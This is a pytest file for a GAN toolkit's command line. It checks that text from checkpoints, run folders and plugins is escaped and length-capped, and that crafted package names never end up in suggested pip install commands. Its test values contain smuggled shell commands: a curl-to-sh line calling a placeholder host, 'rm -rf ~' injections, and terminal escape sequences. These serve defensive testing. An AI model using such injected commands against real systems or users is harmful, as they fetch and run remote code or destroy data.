"""Text that comes from a file never controls the terminal or suggests a command.

A checkpoint's plugin record (package, version, names), a folder name, a plugin's docstring or
error: none of it reaches the screen with terminal escape sequences (ESC, BEL, CR, bidirectional
overrides), none of it makes a message megabytes long, and a package name or version that does
not follow the packaging grammars is never put into a `pip install` line.
"""

from __future__ import annotations

import errno
import json
import shutil
import unicodedata
import warnings
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import Field

from gan_zoo import api
from gan_zoo.cli import GanZooGroup, cli
from gan_zoo.errors import GanZooError, PluginWarning, install_warning_format
from gan_zoo.interfaces import Architecture, Options
from gan_zoo.plugins import plugin_system
from gan_zoo.testing import registered_plugin
from gan_zoo.training import checkpoint as ckpt
from gan_zoo.training.rundir import RunDir
from gan_zoo.util.textsafe import MESSAGE_LIMIT

from .helpers import ganzoo, tiny_config, tiny_data

EVIL_DIST = "x' && curl http://example.invalid | sh; echo '"
EVIL_VERSION = "1.0\x1b]0;pwned\x07"
# Characters a terminal acts on, or that hide or reorder what is shown.
NASTY = ["\x1b", "\x07", "\r", "\b", "\x00", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b",
         "\u2028", "\x85", "\x0b", "\ufeff"]


def unsafe(text: str) -> list[str]:
    """Characters of `text` (but newlines) that must not reach a terminal."""
    return [ch for ch in text if ch != "\n" and
            unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")]


def invoke(*args: str, group: click.Group = cli) -> tuple[int, str]:
    """Run a command; a failure must be exactly one `Error:` line; nothing unsafe is shown."""
    result = CliRunner().invoke(group, list(args))
    assert "Traceback" not in result.output, result.output[:2000]
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception)[:2000]
    if result.exit_code:
        errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
        assert len(errors) == 1, result.output[:2000]
    assert unsafe(result.output) == [], result.output[:2000]
    return result.exit_code, result.output


@pytest.fixture(scope="module")
def tiny_run(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile-text") / "run"
    api.train(tiny_config(steps=2), out=out, data=tiny_data())
    return out


@pytest.fixture
def no_training(monkeypatch):
    def refuse(self, *args, **kwargs):
        raise AssertionError("the checkpoint was accepted and training started")

    monkeypatch.setattr("gan_zoo.training.trainer.Trainer.train", refuse)
    monkeypatch.setattr("gan_zoo.api.load_dataset", lambda data, res: tiny_data(res=res))


def edited_run(source: Path, dest: Path, **arch: Any) -> Path:
    """A copy of a run whose checkpoints' `arch` records say what a stranger wants, saved again
    with a valid checksum."""
    shutil.copytree(source, dest)
    for _, path in RunDir(dest).step_checkpoints():
        tensors, meta = ckpt.load(path)
        meta["arch"].update(arch)
        ckpt.save(path, tensors, meta)
    return dest


def sample_and_resume(run: Path, tmp_path: Path) -> list[str]:
    """`ganzoo sample` and `ganzoo train --resume` of `run`: both fail with one clean message."""
    outputs = []
    for args in (["sample", str(run), "--out", str(tmp_path / "grid.png")],
                 ["train", "--resume", str(run), "--steps", "3"]):
        code, output = invoke(*args)
        assert code == 1, output[:2000]
        assert len(output) < 2 * MESSAGE_LIMIT
        outputs.append(output)
    return outputs


# --------------------------------------------------------------------------- checkpoint records

# (distribution, version) pairs a crafted checkpoint may record for a missing architecture.
HOSTILE_PACKAGES = {
    "shell command and escapes": (EVIL_DIST, EVIL_VERSION),
    "shell command": (EVIL_DIST, "1.0"),
    "escape in version": ("ganzoo-evil", EVIL_VERSION),
    "quote in version": ("ganzoo-evil", "1.0'; rm -rf ~; echo '"),
    "newline in name": ("ganzoo-evil\nrm -rf ~", None),
    "final newline": ("ganzoo-evil\n", "1.0"),
    "version final newline": ("ganzoo-evil", "1.0\n"),
    "kelvin sign": ("ganzoo-\u212a", "1.0"),
    "long s in version": ("ganzoo-evil", "1.0+\u017f"),
    "bidi override": ("ganzoo-evil", "1.0+\u202egnp"),
    "carriage return": ("ganzoo-evil\rpip install safe", "1.0"),
    "space": ("ganzoo evil", "1.0"),
    "not a string": (["ganzoo-evil"], "1.0"),
    "version not a string": ("ganzoo-evil", {"v": 1}),
    "huge name": ("A" * 100_000, "1.0"),
    "huge version": ("ganzoo-evil", "1" * 100_000),
    "option-like name": ("--index-url=http://example.invalid", "1.0"),
}


@pytest.mark.parametrize("dist, version", HOSTILE_PACKAGES.values(), ids=HOSTILE_PACKAGES)
def test_a_crafted_package_or_version_is_never_suggested_as_a_command(
        tiny_run, tmp_path, no_training, dist, version):
    run = edited_run(tiny_run, tmp_path / "run", name="evil32", distribution=dist,
                     version=version)
    for output in sample_and_resume(run, tmp_path):
        assert "Install it with" not in output and "needs the architecture 'evil32'" in output
        assert "no install command is suggested" in output


@pytest.mark.parametrize("record, expected", [
    ({"name": "evil\x1b[2J32"}, "names an invalid architecture 'evil\\x1b[2J32'"),
    ({"name": "evil32\n"}, "names an invalid architecture 'evil32\\x0a'"),
    ({"name": "E" * 100_000}, "names an invalid architecture 'EEEE"),
    ({"name": "evil32", "plugin": "p\x1b]0;x\x07", "distribution": None},
     "which no installed plugin provides"),
])
def test_crafted_component_names_are_shown_escaped(tiny_run, tmp_path, no_training, record,
                                                   expected):
    run = edited_run(tiny_run, tmp_path / "run", **record)
    for output in sample_and_resume(run, tmp_path):
        assert expected in output and "Install it with" not in output


@pytest.mark.parametrize("version, line", [
    ("1.2", "pip install 'ganzoo-evil==1.2'"),
    ("2.3.0+cu121", "pip install 'ganzoo-evil==2.3.0+cu121'"),
    (None, "pip install 'ganzoo-evil'"),
])
def test_a_valid_package_still_gets_its_exact_install_line(tiny_run, tmp_path, no_training,
                                                           version, line):
    run = edited_run(tiny_run, tmp_path / "run", name="evil32", distribution="ganzoo-evil",
                     version=version)
    sampled, resumed = sample_and_resume(run, tmp_path)
    assert sampled.strip().endswith(line) and resumed.strip().endswith(line)


def test_version_mismatch_warning_is_escaped(tiny_run, tmp_path):
    """The architecture is installed, in another version than the checkpoint records: a
    warning, and the images. Run as the real command (its warning printer included)."""
    run = edited_run(tiny_run, tmp_path / "run", version=EVIL_VERSION)
    proc = ganzoo("sample", str(run), "-n", "4", "--out", str(tmp_path / "g.png"))
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    assert ("Warning: this checkpoint records the invalid version '1.0\\x1b]0;pwned\\x07' for "
            "its architecture 'conv32'; gan-zoo ") in err
    assert unsafe(out + err) == [], err


@pytest.mark.parametrize("saved, expected", [
    ("0.0.1\x1b[2J", "records the invalid version '0.0.1\\x1b[2J' for its architecture"),
    ("9" * 100_000, "records the invalid version '9999"),
    ("0.0.1", "this checkpoint was written with gan-zoo 0.0.1; "),
])
def test_version_mismatch_messages(tiny_run, tmp_path, saved, expected):
    run = edited_run(tiny_run, tmp_path / "run", version=saved)
    with pytest.warns(PluginWarning) as caught:
        api.load_generator(run)
    message = str(caught[0].message)
    assert expected in message and unsafe(message) == [] and len(message) < 1000


# --------------------------------------------------------------------------- the message path

def _raiser(exc: BaseException) -> click.Group:
    @click.group(cls=GanZooGroup)
    def group() -> None:
        pass

    @group.command()
    def boom() -> None:
        raise exc

    return group


HOSTILE_TEXT = st.text(alphabet=st.one_of(st.characters(), st.sampled_from(NASTY + ["\n"])),
                       max_size=200)


@settings(max_examples=60, deadline=None)
@given(text=HOSTILE_TEXT, repeat=st.sampled_from([1, 3, 50_000]))
def test_any_error_text_is_one_escaped_capped_error(text, repeat):
    message = text * repeat + "\nError: a forged second error\x1b[2J"
    code, output = invoke("boom", group=_raiser(GanZooError(message)))
    assert code == 1 and output.startswith("Error: ")
    assert len(output) <= MESSAGE_LIMIT + 1  # + the final newline


def test_an_os_error_naming_a_hostile_file_is_escaped():
    exc = PermissionError(errno.EACCES, "Permission denied", "/tmp/x\x1b]0;pwned\x07" * 10_000)
    code, output = invoke("boom", group=_raiser(exc))
    assert code == 1 and output.startswith("Error: Permission denied (/tmp/x\\x1b]0;pwned\\x07")
    assert len(output) <= MESSAGE_LIMIT + 1


def test_click_errors_are_capped_too():
    """click reports bad option values itself; the same cap applies."""
    for args in (["train", "--steps", "x\x1b" * 20_000], ["train", "--d-update", "\u202e" * 20_000]):
        code, output = invoke(*args)
        assert code == 2 and len(output) <= MESSAGE_LIMIT + 200  # + click's usage lines


def test_warnings_are_escaped_and_capped(capsys):
    shown_by_python: list[str] = []
    hostile = "bad \x1b]0;pwned\x07 \u202eevil\r" * 100_000
    with warnings.catch_warnings():  # restores warnings.showwarning afterwards
        warnings.showwarning = lambda message, *args, **kw: shown_by_python.append(str(message))
        install_warning_format()
        warnings.showwarning(PluginWarning(hostile), PluginWarning, "x.py", 1)
        warnings.showwarning(UserWarning(hostile), UserWarning, "x.py", 1)
    err = capsys.readouterr().err
    assert err.startswith("Warning: bad \\x1b]0;pwned\\x07 \\u202eevil\\x0d")
    assert unsafe(err) == [] and len(err) <= MESSAGE_LIMIT + 1
    assert unsafe(shown_by_python[0]) == [] and len(shown_by_python[0]) <= MESSAGE_LIMIT


def test_resume_log_lines_are_escaped(tiny_run, tmp_path, no_training):
    """A downloaded run folder's name and a damaged checkpoint reach the log lines of
    `train --resume` ("skipped damaged checkpoint", "resuming from PATH")."""
    name = "run\x1b]0;pwned\x07\u202e\r"
    run = edited_run(tiny_run, tmp_path / name, name="evil32", distribution="ganzoo-evil")
    (run / "checkpoints" / "step-0000004.safetensors").write_bytes(b"\x1b[2J" * 1000)
    code, output = invoke("train", "--resume", str(run), "--steps", "6")
    assert code == 1 and "resuming from" in output and "skipped damaged checkpoint" in output
    assert "run\\x1b]0;pwned\\x07\\u202e\\x0d" in output


# --------------------------------------------------------------------------- item 9: sizes

def _with_huge_dtype(source: Path, dest: Path, size: int) -> Path:
    """The checkpoint with one tensor's dtype replaced by `size` letters (a valid header)."""
    blob = source.read_bytes()
    n = int.from_bytes(blob[:8], "little")
    header = json.loads(blob[8:8 + n])
    name = next(k for k in header if k != "__metadata__")
    header[name]["dtype"] = "A" * size
    raw = json.dumps(header).encode()
    dest.write_bytes(len(raw).to_bytes(8, "little") + raw + blob[8 + n:])
    return dest


def test_a_fifteen_megabyte_bad_header_gives_a_short_message(tiny_run, tmp_path):
    source = RunDir(tiny_run).step_checkpoints()[-1][1]
    bad = _with_huge_dtype(source, tmp_path / "bad.safetensors", 15_000_000)
    code, output = invoke("sample", str(bad), "--out", str(tmp_path / "g.png"))
    assert code == 1 and len(output) <= MESSAGE_LIMIT + 1


def test_a_huge_option_value_in_a_checkpoint_gives_a_short_message(tiny_run, tmp_path):
    options = {**ckpt.load(RunDir(tiny_run).step_checkpoints()[-1][1])[1]["arch"]["options"],
               "width": "w" * 1_000_000}
    run = edited_run(tiny_run, tmp_path / "run", options=options)
    code, output = invoke("sample", str(run), "--out", str(tmp_path / "g.png"))
    assert code != 0 and len(output) <= MESSAGE_LIMIT + 1


def test_a_huge_value_in_a_config_file_gives_a_short_message(tmp_path, no_training):
    config = tmp_path / "big.toml"
    config.write_text('steps = "' + "9\\u001b" * 2_000_000 + '"\n')
    code, output = invoke("train", "--config", str(config))
    assert code == 2 and len(output) <= MESSAGE_LIMIT + 1


# --------------------------------------------------------------------------- installed code

class Hostile32(Architecture):
    """[red]Red[/red] [link=http://example.invalid]click[/link] \x1b]0;pwned\x07 \u202eevil"""

    name = "hostile32"
    resolution = 32

    class Options(Options):
        width: int = Field(8, description="width \x1b[2J[blink]x[/blink]")

    def build_generator(self):  # never called
        raise NotImplementedError

    def build_discriminator(self):
        raise NotImplementedError


@pytest.fixture
def hostile_plugin():
    """Installed code whose docstring, package name and version carry rich markup and escapes,
    and a failed plugin whose error does."""
    system = plugin_system()
    broken = type("Broken", (), {"__name__": "broken_mod"})()
    with registered_plugin(Hostile32, "hostile-text", "[bold]dist\x1b[2J", "1.0\x07[/bold]"), \
            registered_plugin(broken, "hostile-failed", "ganzoo-failed", "0.1"):
        system.infos["hostile-failed"].error = (
            "import failed: RuntimeError: \x1b]0;pwned\x07" + "x" * 100_000)
        yield


def test_list_show_and_plugins_escape_installed_text(hostile_plugin):
    code, listed = invoke("list", "arch")
    assert code == 0 and "[red]Red[/red]" in listed and "[link=http://example.invalid]" in listed
    assert "[bold]dist\\x1b[2J" in listed
    code, shown = invoke("show", "hostile32")
    assert code == 0 and "\\x1b]0;pwned\\x07 \\u202eevil" in shown
    code, plugins = invoke("plugins")
    assert code == 0 and "[bold]dist\\x1b[2J 1.0\\x07[/bold]" in plugins
    assert "error: import failed: RuntimeError: \\x1b]0;pwned\\x07" in plugins
    assert len(plugins) < 20_000
